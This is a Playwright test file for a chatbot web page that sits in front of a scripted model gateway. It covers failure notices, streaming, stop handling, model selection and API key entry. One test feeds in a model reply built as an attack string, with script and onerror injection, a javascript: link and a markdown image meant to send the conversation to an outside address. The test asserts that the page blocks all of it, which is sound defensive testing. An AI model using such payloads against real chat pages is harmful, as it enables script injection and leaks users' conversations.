"""What a person sees when the gateway fails: a real browser and the real page in front of a scripted gateway."""

from playwright.async_api import Browser, expect

from tests.chatbot.conftest import page_for
from tests.chatbot.page import open_chat
from tests.chatbot.upstream import Upstream, error_event, piece, refuse, reply, scripted_upstream, silence, stream
from tests.polling import eventually


async def test_a_refused_question_goes_back_into_the_box(
    browser: Browser, scripted_page: str, scripted: Upstream
) -> None:
    scripted.chat = refuse(503, "No replica of <b>scripted</b> is ready.")
    async with open_chat(browser, scripted_page) as chat:
        await chat.ask("Are you there?")
        await expect(chat.notice).to_have_text("No replica of <b>scripted</b> is ready.")
        await expect(chat.box).to_have_value("Are you there?")
        await expect(chat.questions).to_have_count(0)
        scripted.chat = stream("Yes.", piece("", "stop"))
        await chat.box.press("Enter")
        await expect(chat.answers.last).to_have_text("Yes.")
        await expect(chat.notice).to_be_hidden()
        assert [message["role"] for message in scripted.requests[-1].body["messages"]] == ["user"]


async def test_an_interrupted_answer_keeps_its_text(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    scripted.chat = stream("It began well ", error_event("Every replica is gone."))
    async with open_chat(browser, scripted_page) as chat:
        await chat.ask("Tell me")
        await expect(chat.notice).to_have_text("Every replica is gone.")
        await expect(chat.answers.last).to_contain_text("It began well")
        await expect(chat.answers.last).to_contain_text("cut off")
        await expect(chat.box).to_have_value("")
        scripted.chat = stream("Fine.", piece("", "stop"))
        await chat.ask("Go on")
        await expect(chat.answers.last).to_have_text("Fine.")
        assert scripted.requests[-1].body["messages"][1] == {"role": "assistant", "content": "It began well "}


async def test_stop_before_the_first_token(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    scripted.chat = silence
    async with open_chat(browser, scripted_page) as chat:
        await chat.ask("Anyone?")
        await chat.stop()
        await expect(chat.box).to_have_value("Anyone?")
        await eventually(lambda: scripted.gone == 1)


async def test_a_tab_closed_before_the_first_token(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    scripted.chat = silence
    async with open_chat(browser, scripted_page) as chat:
        await chat.ask("Anyone?")
        await eventually(lambda: any(request.body for request in scripted.requests))
        await chat.page.close()
        await eventually(lambda: scripted.gone == 1)


async def test_a_models_markup_is_inert_and_calls_nobody(
    browser: Browser, scripted_page: str, scripted: Upstream
) -> None:
    attack = (
        "<script>window.ran = 1</script><img src=x onerror='window.ran = 2'><iframe src='http://192.0.2.1'></iframe>\n\n"
        "[link](javascript:window.ran=3) ![secret](http://192.0.2.1/?what-was-said) and **done**"
    )
    scripted.chat = stream(attack, piece("", "stop"))
    async with open_chat(browser, scripted_page) as chat:
        blocked: list[str] = []
        chat.page.on("console", lambda message: blocked.append(message.text))
        await chat.ask("Attack me")
        await expect(chat.answers.last).to_contain_text("and done")
        await chat.answered()
        await chat.answers.last.get_by_text("link").click()
        await eventually(lambda: any("Content Security Policy" in text for text in blocked))
        assert await chat.page.evaluate("window.ran") is None
        assert await chat.page.locator("#chat :is([onerror], script, iframe)").count() == 0
        assert chat.outside == []


async def test_only_chat_models_are_offered(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    entries: list[dict[str, object]] = [
        {"id": "e", "tasks": ["embeddings"]},
        {"id": "a", "tasks": ["chat", "completions"]},
        {"id": "b"},
    ]
    scripted.models = reply(200, {"object": "list", "data": [{"object": "model", **entry} for entry in entries]})
    async with open_chat(browser, scripted_page) as chat:
        await expect(chat.model).to_have_value("a")
        await chat.model.click()
        await expect(chat.page.get_by_role("option")).to_have_count(2)
        await chat.page.get_by_role("option", name="b").click()
        await chat.ask("Hi")
        await expect(chat.answers.last).to_have_text("Hello")
        assert scripted.requests[-1].body["model"] == "b"


async def test_settings_are_sent(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    async with open_chat(browser, scripted_page) as chat:
        await chat.set_max_tokens(7)
        await chat.set_system_prompt("Be brief.")
        await chat.ask("Hi")
        await expect(chat.answers.last).to_have_text("Hello")
        body = scripted.requests[-1].body
        assert body["messages"][0] == {"role": "system", "content": "Be brief."}
        assert (body["max_tokens"], body["temperature"], body["model"]) == (7, 0.7, "scripted")


async def test_a_key_is_asked_for_and_used(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    scripted.demand_key("secret-1")
    async with open_chat(browser, scripted_page) as chat:
        await expect(chat.notice).to_have_text("Give me a key.")
        await expect(chat.key).to_have_attribute("type", "password")
        await chat.key.fill("secret-1")
        await chat.key.press("Enter")
        await expect(chat.model).to_have_value("scripted")
        await expect(chat.key).to_be_hidden()
        await chat.ask("Hi")
        await expect(chat.answers.last).to_have_text("Hello")
        assert scripted.requests[-1].headers["authorization"] == "Bearer secret-1"
    async with open_chat(browser, scripted_page) as other:
        await expect(other.notice).to_have_text("Give me a key.")


async def test_no_key_is_asked_for_without_need(browser: Browser, scripted_page: str, scripted: Upstream) -> None:
    async with open_chat(browser, scripted_page) as chat:
        await expect(chat.model).to_have_value("scripted")
        await expect(chat.key).to_be_hidden()


async def test_a_page_opened_too_early_recovers(browser: Browser) -> None:
    async with scripted_upstream() as placeholder:
        port = int(placeholder.url.rsplit(":", 1)[1])
    with page_for(f"http://127.0.0.1:{port}", LLMGW_API_KEY="from-env") as url:
        async with open_chat(browser, url) as chat:
            await expect(chat.notice).to_contain_text("does not answer")
            await chat.box.fill("Kept")
            async with scripted_upstream(port) as upstream:
                await expect(chat.model).to_have_value("scripted", timeout=15_000)
                await expect(chat.notice).to_be_hidden()
                await expect(chat.box).to_have_value("Kept")
                assert upstream.requests[-1].headers["authorization"] == "Bearer from-env"
